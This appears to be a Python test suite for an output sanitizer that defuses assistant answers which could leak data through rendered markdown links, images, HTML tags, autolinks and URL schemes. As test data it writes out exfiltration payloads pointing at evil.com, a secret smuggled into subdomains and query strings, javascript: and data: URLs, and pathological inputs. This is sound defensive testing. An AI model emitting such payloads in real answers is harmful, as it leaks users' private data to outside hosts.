"""The sanitizer: no answer is live, prose is left alone, and the split of the stream makes no difference."""

import json
import random
import unicodedata
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from serving.citable import Citable
from serving.prompt import Evidence
from serving.sanitizer import _LOOKALIKES, Sanitizer
from tests.serving.exfiltration import SECRET, encodings, live

ANSWERS = tuple(encodings())
SOURCE = "https://intranet.acme.com/policies/refunds"


def evidence(source: str, text: str = "Write to refunds@acme.com.") -> Evidence:
    return Evidence(1, "d", "v", "Refunds", source, (), None, 0, len(text), text)


def sanitized(*pieces: str, source: str = SOURCE, structured: bool = False) -> str:
    sanitizer = Sanitizer(Citable([evidence(source)]), structured=structured)
    return "".join([*map(sanitizer.feed, pieces), sanitizer.flush()])


def test_no_encoding_of_an_exfiltration_is_live() -> None:
    assert [answer for answer in ANSWERS if live(sanitized(answer))] == []


@pytest.mark.parametrize("scheme", ["magnet", "SIP", "sips", "webcal", "search-ms", "geo"])
def test_a_scheme_that_starts_a_program_is_dead_where_no_renderer_would_see_it(scheme: str) -> None:
    assert f"{scheme}:" not in sanitized(f"Go to {scheme}:x?y=secret now.")
    assert sanitized(f"The {scheme}: it is a scheme.") == f"The {scheme}: it is a scheme."


def test_renderers_find_life_in_most_of_them_as_they_come() -> None:
    """The control: what is judged dead was alive."""
    some = random.Random(6).sample(ANSWERS, 1_000)
    assert sum(bool(live(answer)) for answer in some) > 800


def test_every_split_of_1000_encodings_gives_the_same() -> None:
    """Cut anywhere in two, and into single characters; what is held back depends on nothing but what was fed."""
    for answer in random.Random(23).sample(ANSWERS, 1_000):
        whole = sanitized(answer)
        assert sanitized(*answer) == whole
        for cut in range(1, len(answer)):
            assert sanitized(answer[:cut], answer[cut:]) == whole, (answer, cut)


LIVELY = "<>()[]!/:.@?#;&\\\u200b\u200d\u2066w1a -\ncom"


@given(st.text(LIVELY, max_size=40), st.data(), st.booleans())
def test_every_split_of_any_text_gives_the_same(text: str, data: st.DataObject, structured: bool) -> None:
    whole = sanitized(text, structured=structured)
    assert sanitized(*text, structured=structured) == whole
    first, second = sorted(data.draw(st.tuples(st.integers(0, len(text)), st.integers(0, len(text)))))
    assert sanitized(text[:first], text[first:second], text[second:], structured=structured) == whole


@given(st.lists(st.sampled_from([*LIVELY, "![", "](", "]:", "https://", "evil.com", "www.", "<a ", "x@y.zz"])))
def test_nothing_comes_to_life_by_chance(parts: list[str]) -> None:
    assert live(sanitized("".join(parts))) == []


@pytest.mark.parametrize(
    "prose",
    [
        "Within 45 days [1], or 30 [2, 3]. See [sic] and [1]: it says so.",
        "If a < b and b > c, then a<3 holds; 5 <= 6 != 7.",
        "It costs $5.00/month (incl. 19 % VAT), e.g. on 3/4/2026 at 12:30:00; well?",
        "Use `foo(x)[0]`, `os.path.is_dir(a, b)`, `a // b`, `x -> y` and `std::vector`.",
        "# Heading\n\n- item: *one*\n1. **two** & three\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        "R&D; AT&T; version 3.11.2, section 4.2.1, and/or 10.0.0.1/24. Prof. Dr. U.S. z.B. refunds.md",
        "Rückgaben 📦 👩‍👩‍👧 نمی‌خواهم 🏳️‍🌈 日本語。\uff08\u6ce8\uff1a\u53c2\u7167\uff09",
        "The formula $\\frac{a}{b}$ and \\(x_1\\), a \\* b, C:\\Users\\ana, C:\\data\\style.",
        "Write to refunds@acme.com, a @ b or @ana.",
        "Ask acme.com: it is theirs. Who owns acme.com? localhost/x",
    ],
)
def test_prose_is_left_alone(prose: str) -> None:
    sanitizer = Sanitizer(Citable([evidence(SOURCE)]))
    assert sanitizer.feed(prose) + sanitizer.flush() == prose
    assert sanitizer.exchanged == 0


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("![x](https://evil.com/q)", "![x]\u2768https:/\u2044evil.com\u2044q)"),
        ("<img src=x>", "\u2039img src=x>"),
        ("[1]: https://evil.com", "[1] : https:/\u2044evil.com"),
        ("www.evil.com", "www\u00b7evil.com"),
        (f"{SECRET}.evil.com", f"{SECRET}.evil\u00b7com"),
        ("ask hr@evil.com", "ask hr (at) evil.com"),
        ("&lt;img&gt; &#60;", "&lt ;img&gt ; & #60;"),
        ("javascript:alert(1)", "javascript :alert(1)"),
        ("$\\href{x}{y}$", "$\\ href{x}{y}$"),
        ("a\u202eb\u200bc\x07d", "abcd"),
    ],
)
def test_words_stay_readable(said: str, shown: str) -> None:
    assert sanitized(said) == shown


@given(st.text(LIVELY, max_size=40))
def test_what_is_dead_stays_dead_when_it_is_normalised(text: str) -> None:
    shown = sanitized(text)
    assert unicodedata.normalize("NFKC", shown) == shown


@pytest.mark.parametrize("place", [SOURCE, f"{SOURCE}#deadlines", f"{SOURCE}#page=3"])
def test_links_to_sources_stay_live(place: str) -> None:
    said = f"See [the policy]({place}), {place}. Or ({place})"
    assert sanitized(said) == sanitized(*said) == said
    assert live(said, place) == []
    assert live(said) != []


@pytest.mark.parametrize(
    "said",
    [
        f"[x]({SOURCE}?q={SECRET})",
        f"[x]({SOURCE}/{SECRET})",
        f"[x]({SOURCE}#a/../{SECRET})",
        f"[x]({SOURCE} '{SECRET}')",
        f"[x]({SOURCE}){SECRET}",
        f"![x]({SOURCE})",
        f"[![x]({SOURCE})]({SOURCE})",
        f"{SOURCE}.{SECRET}",
        f"{SOURCE}){SECRET}",
        f"https://user@{SOURCE.removeprefix('https://')}",
        f"<{SOURCE}>",
        f"[x]: {SOURCE}?{SECRET}\n\n[x]",
    ],
)
def test_a_source_with_something_added_does_not(said: str) -> None:
    assert sanitized(said) != said
    assert sanitized(*said) == sanitized(said)
    assert live(sanitized(said), SOURCE) == []


@pytest.mark.parametrize(
    "source", ["javascript:alert(1)", "data:text/html,x", "//evil.com/x", "policies/x.md", "/logout"]
)
def test_a_source_that_is_no_address_of_the_web_is_not_linked(source: str) -> None:
    assert live(sanitized(f"[x]({source})", source=source), "") == []


HELD = (
    "portal.acme.com",
    "https://portal.acme.com/claims",
    "https://portal.acme.com/claims?year=2026#top",
    "www.acme.com",
    "acme.com/refunds",
    "proxy.acme.com:8443",
    "numpy.linalg.qr",
    "anna.maria.lopez@acme.com",
    "https://evil.com/a",
)


def held(*pieces: str) -> str:
    sanitizer = Sanitizer(Citable([evidence("x.md", f"See {', '.join(HELD)}.")]))
    return "".join([*map(sanitizer.feed, pieces), sanitizer.flush()])


@pytest.mark.parametrize("place", HELD)
@pytest.mark.parametrize("shape", ["{}", "({}).", "**{}**,", '"{}"', "`{}`: x", "a {} b"])
def test_what_stands_in_a_passage_stays(place: str, shape: str) -> None:
    said = shape.format(place)
    assert held(said) == said
    assert all(held(said[:cut], said[cut:]) == said for cut in range(len(said)))


@pytest.mark.parametrize("place", HELD)
@pytest.mark.parametrize(
    "shape",
    ["{}/c2VjcmV0", "{}c2VjcmV0", "c2VjcmV0{}", "c2VjcmV0.{}", "{}.c2VjcmV0", "{}).,.,;", "{}?c2VjcmV0", "{}[x]"],
)
def test_what_stands_in_a_passage_with_something_added_does_not(place: str, shape: str) -> None:
    said = shape.format(place)
    assert held(*said) == held(said)
    assert [found for found in live(held(said)) if "c2VjcmV0" in found.casefold()] == []
    assert "://" not in held(said)


@pytest.mark.parametrize("place", HELD)
@pytest.mark.parametrize(
    "shape", ["![x]({})", "[x]({})", "<{}>", "[x]: {}\n\n[x]", "<img src={}>", '<a href="{}">x</a>']
)
def test_what_stands_in_a_passage_is_nothing_but_named(place: str, shape: str) -> None:
    """Renderers link it as it stands; no other words link to it, and nothing loads it."""
    shown = held(shape.format(place))
    allowed = (place, f"http://{place}", f"mailto:{place}")
    assert live(shown, *allowed) == []
    assert ">x</a>" not in MarkdownIt("gfm-like", {"html": True}).render(shown)


@pytest.mark.parametrize("top", ["page", "link", "zip", "io", "COM", "m\u00fcnchen", "xn--80ak6aa92e", "tobe"])
def test_no_name_of_three_parts_carries_anything_whatever_its_top(top: str) -> None:
    assert sanitized(f"{SECRET}.evil.{top}") == f"{SECRET}.evil\u00b7{top}"


VALUES = (
    "![x](https://evil.com/q)",
    "<img src='x'>",
    "a\\href{b}\\\\/",
    "https:\\/\\/evil.com",
    "ok [9]",
    "\u200b\U000e0041",
)


@pytest.mark.parametrize("dump", [json.dumps, lambda value: json.dumps(value, ensure_ascii=False).replace("/", "\\/")])
def test_json_keeps_its_values_and_is_dead_all_the_same(dump: Callable[[object], str]) -> None:
    value = {"list": list(VALUES), **{one: [1, 2.5, True, None] for one in VALUES}}
    said = dump(value)
    shown = sanitized(said, structured=True)
    assert json.loads(shown) == value
    assert live(shown) == []
    assert sanitized(*said, structured=True) == shown


JSON = st.recursive(
    st.none() | st.floats(allow_nan=False) | st.text(LIVELY),
    lambda inner: st.lists(inner) | st.dictionaries(st.text(LIVELY), inner),
)


@given(JSON, st.booleans())
def test_any_json_keeps_its_values(value: object, ascii_only: bool) -> None:
    assert json.loads(sanitized(json.dumps(value, ensure_ascii=ascii_only), structured=True)) == value


@given(st.text(LIVELY.translate({0x200B: None, 0x200D: None, 0x2066: None}), max_size=40), st.integers(0, 40))
def test_the_original_is_what_was_said_and_its_places_are_known(said: str, cut: int) -> None:
    sanitizer = Sanitizer()
    shown = (sanitizer.feed(said[:cut]) + sanitizer.feed(said[cut:]) + sanitizer.flush()).lstrip()
    original = sanitizer.original(shown)
    assert original.text == said.lstrip()
    for at, character in enumerate(original.text):
        start, end = original.shown((at, at + 1))
        assert shown[start:end] in (character, _LOOKALIKES.get(character))


def test_what_is_not_seen_is_not_in_the_original() -> None:
    sanitizer = Sanitizer()
    shown = sanitizer.feed("no\u200bt at <b>a.b.com") + sanitizer.flush()
    assert (shown, sanitizer.original(shown).text) == ("not at \u2039b>a.b\u00b7com", "not at <b>a.b.com")


def test_the_original_of_json_is_json_as_it_was() -> None:
    said = json.dumps({"a": "<img> [x](y) https:\\/\\/evil.com"})
    sanitizer = Sanitizer(structured=True)
    shown = sanitizer.feed(said) + sanitizer.flush()
    original = sanitizer.original(shown)
    assert original.text == said != shown
    assert original.shown((0, len(said))) == (0, len(shown))


def test_a_hostile_answer_takes_no_time() -> None:
    """Rules look back and ahead a bounded way: the time that a hostile answer takes grows with its length alone."""
    for hostile in (
        "a." * 30_000,
        "[" * 30_000 + "](" * 15_000,
        "&" * 60_000,
        "https://" * 7_500,
        "\\a" * 30_000,
        "a@" * 30_000,
    ):
        assert len(sanitized(hostile)) >= 60_000
